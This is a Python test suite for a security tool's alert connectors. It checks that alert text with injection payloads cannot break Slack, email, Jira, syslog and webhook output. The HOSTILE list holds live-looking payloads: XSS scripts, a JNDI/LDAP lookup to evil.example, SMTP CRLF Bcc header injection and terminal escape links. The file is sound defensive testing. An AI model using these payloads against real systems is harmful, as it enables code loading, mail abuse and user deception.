"""What each connector sends, whatever an alert holds: the target's own form, within its limits, nothing to obey."""

import base64
import hashlib
import hmac
import re
from email import message_from_bytes, policy
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan import connector_config as config
from bartizan.respond.connectors import email, jira, pagerduty, slack, sns, sqs, syslog, webhook
from bartizan.respond.connectors.registry import BUILDERS, build, target
from bartizan.respond.errors import SecretMissing
from bartizan.respond.notification import Notification, headline
from bartizan.respond.secrets import Secrets
from tests.respond.conftest import NOW, alert

SECRETS = Secrets({"S": "hush-hush", "URL": "https://hooks.slack.example/services/hush-hush"})
ONE = Notification("0f" * 16, (alert(),))
MANY = Notification("0e" * 16, tuple(headline(alert(f"a{n}")) for n in range(10)), 28)

WEBHOOK = config.WebhookConfig(url="https://x.example/hook/hush-hush", token_env="S", signing_key_env="S")
SLACK = config.SlackConfig(url_env="URL")
EMAIL = config.EmailConfig(
    host="smtp.example", sender="soc@x.example", recipients=("a@y.example",), username="u", password_env="S"
)
PAGERDUTY = config.PagerDutyConfig(routing_key_env="S")
JIRA = config.JiraConfig(url="https://x.example/", project="SOC", user="u@x.example", token_env="S")
SNS = config.SnsConfig(topic_arn="arn:aws:sns:eu-west-1:111122223333:alerts")
SQS = config.SqsConfig(queue_url="https://sqs.eu-west-1.amazonaws.com/111122223333/alerts", region="eu-west-1")
SYSLOG = config.SyslogConfig(host="log.example")
ALL = (WEBHOOK, SLACK, EMAIL, PAGERDUTY, JIRA, SNS, SQS, SYSLOG)

HOSTILE = (
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "<!channel> <!here> <@U123> <https://evil.example|click>",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "\x1b[31mred\x1b]8;;https://evil.example\x07",
    "{{7*7}} ${jndi:ldap://evil.example/a} {alert.id} {user.name}",
    "x\r\nBcc: evil@evil.example\r\n\r\nbody",
    "\n.\r\nQUIT\r\n",
    '"] [evil@1 a="b"] \\',
    "\u202egnp.exe \u2028 \u2029 \x85 \x00 \ufeff",
    "{panel:title=x} [~admin] h1. x !https://evil.example/x.png!",
    "x" * 100_000,
)


def hostile(text: str) -> Notification:
    """An alert whose every text is this."""
    found = alert()
    found["alert"] |= {"reason": text, "id": text}
    found["rule"] |= {"name": text, "id": text}
    found |= {"user": {"name": text}, "source": {"ip": text}, "cloud": {"account": {"id": text}, "region": text}}
    return Notification("0f" * 16, (found,))


def test_every_kind_has_its_builder() -> None:
    assert BUILDERS.keys() == {type(settings) for settings in ALL}


@pytest.mark.parametrize("settings", ALL, ids=lambda settings: settings.type)
def test_no_secret_is_shown(settings: config.Connector) -> None:
    shown = f"{build(settings, SECRETS, ONE, NOW)!r} {settings!r} {target(settings)} {SECRETS!r}"
    assert "hush" not in shown


@pytest.mark.parametrize("settings", [SLACK, EMAIL, PAGERDUTY, JIRA, WEBHOOK], ids=lambda settings: settings.type)
def test_a_missing_secret_is_named(settings: config.Connector) -> None:
    with pytest.raises(SecretMissing, match=r"`[a-z_]+_env` names `(S|URL)`, which is empty or not set"):
        build(settings, Secrets({}), ONE, NOW)


@pytest.mark.parametrize("kind", ALL, ids=lambda kind: kind.type)
@settings(max_examples=25)
@given(text=st.one_of(st.sampled_from(HOSTILE), st.text()))
def test_any_alert_makes_a_delivery(kind: config.Connector, text: str) -> None:
    build(kind, SECRETS, hostile(text), NOW)
    assert build(kind, SECRETS, hostile(text), NOW) == build(kind, SECRETS, hostile(text), NOW)


def test_webhook() -> None:
    made = webhook.request(WEBHOOK, SECRETS, ONE, NOW)
    body = orjson.loads(made.body)
    assert (body["id"], body["more"], body["alerts"]) == (ONE.id, 0, [alert()])
    assert body["subject"] == "[high] Logging stopped"
    assert made.headers["Authorization"] == "Bearer hush-hush"
    assert made.headers["Idempotency-Key"] == made.headers["webhook-id"] == ONE.id
    signed = f"{ONE.id}.{int(NOW.timestamp())}.".encode() + made.body
    expected = base64.b64encode(hmac.digest(b"hush-hush", signed, hashlib.sha256)).decode()
    assert made.headers["webhook-signature"] == f"v1,{expected}"


def test_a_webhooks_address_may_be_a_secret() -> None:
    settings = config.WebhookConfig(url_env="URL")
    made = webhook.request(settings, SECRETS, ONE, NOW)
    assert made.url == SECRETS.environment["URL"]
    assert "hush" not in f"{made!r} {target(settings)}"


def test_a_signature_of_the_specification() -> None:
    """The example of standardwebhooks.com."""
    body = b'{"test": 2432232314}'
    signed = webhook.signature(
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "msg_p5jXN8AQM9LWM0D4loKWxJek", "1614265330", body
    )
    assert signed == "g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="


def test_a_summary_says_how_many_more() -> None:
    body = orjson.loads(webhook.request(WEBHOOK, SECRETS, MANY, NOW).body)
    assert (len(body["alerts"]), body["more"]) == (10, 28)
    assert body["subject"] == "[high] Logging stopped and 37 more"
    lines = body["text"].splitlines()
    assert (lines[0], lines[-1], len(lines)) == ("38 alerts:", "and 28 more", 12)


@pytest.mark.parametrize("text", HOSTILE)
def test_slack_has_no_markup_of_an_alert(text: str) -> None:
    made = orjson.loads(slack.request(SLACK, SECRETS, hostile(text), NOW).body)
    header, section = made["blocks"]
    assert (header["text"]["type"], section["text"]["verbatim"]) == ("plain_text", True)
    assert len(header["text"]["text"]) <= 150
    assert len(section["text"]["text"]) <= 3000
    for shown in (made["text"], section["text"]["text"]):
        assert not set("<>") & set(shown)
        assert re.sub(r"&(amp|lt|gt);", "", shown).count("&") == 0


def test_slack_keeps_the_operators_own_markup() -> None:
    settings = config.SlackConfig(url_env="URL", template="*{rule.name}* <https://x.example|open>")
    made = orjson.loads(slack.request(settings, SECRETS, ONE, NOW).body)
    assert made["blocks"][1]["text"]["text"] == "*Logging stopped* <https://x.example|open>"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_mail_has_only_our_headers(text: str) -> None:
    made = email.request(EMAIL, SECRETS, hostile(text), NOW)
    message = message_from_bytes(made.message, policy=policy.default)
    ours = {"From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted"}
    assert set(message.keys()) == ours | {"Content-Type", "Content-Transfer-Encoding", "MIME-Version"}
    assert len(message.keys()) == 9
    assert (message["To"], message.get_content_type()) == ("a@y.example", "text/plain")
    assert message["Message-ID"] == f"<{ONE.id}@x.example>"
    assert not [line for line in message.get_content().splitlines() if line.startswith(("Bcc", "QUIT"))]


@pytest.mark.parametrize("text", HOSTILE)
def test_pagerduty(text: str) -> None:
    made = orjson.loads(pagerduty.request(PAGERDUTY, SECRETS, hostile(text), NOW).body)
    assert (made["event_action"], made["dedup_key"]) == ("trigger", ONE.id)
    assert made["payload"]["severity"] == "error"
    assert len(made["payload"]["summary"]) <= 1024
    assert 0 < len(made["payload"]["source"]) <= 255
    assert len(orjson.dumps(made)) < 512_000


@pytest.mark.parametrize("text", HOSTILE)
def test_jira_has_text_nodes_alone(text: str) -> None:
    made = jira.request(JIRA, SECRETS, hostile(text), NOW)
    assert made.url == "https://x.example/rest/api/3/issue"
    fields = orjson.loads(made.body)["fields"]
    assert len(fields["summary"]) <= 255
    assert fields["summary"].isprintable()
    assert f"bartizan-{ONE.id}" in fields["labels"]
    nodes = [node for paragraph in fields["description"]["content"] for node in paragraph["content"]]
    assert {(node["type"], *node.keys()) for node in nodes} == {("text", "type", "text")}
    assert all(node["text"] for node in nodes)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_topics_subject_is_ascii(text: str) -> None:
    made = sns.request(SNS, SECRETS, hostile(text), NOW)
    subject = made.parameters["Subject"]
    assert 0 < len(subject) < 100
    assert subject.isascii()
    assert subject.isprintable()
    assert made.region == "eu-west-1"


def test_fifo_targets_get_a_deduplication_id() -> None:
    topic = config.SnsConfig(topic_arn=f"{SNS.topic_arn}.fifo")
    queue = config.SqsConfig(queue_url=f"{SQS.queue_url}.fifo", region="eu-west-1")
    for made in (sns.request(topic, SECRETS, ONE, NOW), sqs.request(queue, SECRETS, ONE, NOW)):
        assert made.parameters["MessageDeduplicationId"] == ONE.id


XML_CHARACTERS = re.compile("[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]*")
"""What a message of SQS may hold (docs.aws.amazon.com, SendMessage)."""


@given(st.text())
def test_a_queues_message_has_only_allowed_characters(text: str) -> None:
    body = sqs.request(SQS, SECRETS, hostile(text), NOW).parameters["MessageBody"]
    assert XML_CHARACTERS.fullmatch(body)
    assert orjson.loads(body)["alerts"][0]["user"]["name"] == text


FRAME = re.compile(
    rb'<(\d{1,3})>1 (\S+) ([!-~]{1,255}) bartizan - alert \[bartizan@32473( [^\s="\]]{1,32}="([^"\\\]]|\\["\\\]])*")*\]'
    rb" \xef\xbb\xbf([^\x00-\x1f\x7f]*)",
)


@pytest.mark.parametrize("transport", ["udp", "tcp", "tls"])
@given(text=st.one_of(st.sampled_from(HOSTILE), st.text()))
def test_syslog_is_as_the_rfc_writes_it(transport: Any, text: str) -> None:
    settings = config.SyslogConfig(host="log.example", transport=transport, hostname="bar tizan")
    frame = syslog.request(settings, SECRETS, hostile(text), NOW).frame
    if transport != "udp":
        length, _, frame = frame.partition(b" ")
        assert int(length) == len(frame)
    assert len(frame) <= syslog.MAX_BYTES[transport]
    found = FRAME.fullmatch(frame)
    assert found
    assert (found[1], found[2], found[3]) == (b"108", b"2026-11-24T12:00:00.000000Z", b"bartizan")
    found[0].decode()


def test_a_syslog_line() -> None:
    frame = syslog.request(config.SyslogConfig(host="h", transport="udp"), SECRETS, ONE, NOW).frame.decode("utf-8")
    assert frame.startswith(f'<108>1 2026-11-24T12:00:00.000000Z - bartizan - alert [bartizan@32473 id="{ONE.id}"')
    assert ' alert.severity="high" ' in frame
    assert frame.endswith("] \ufeff[high] Logging stopped")
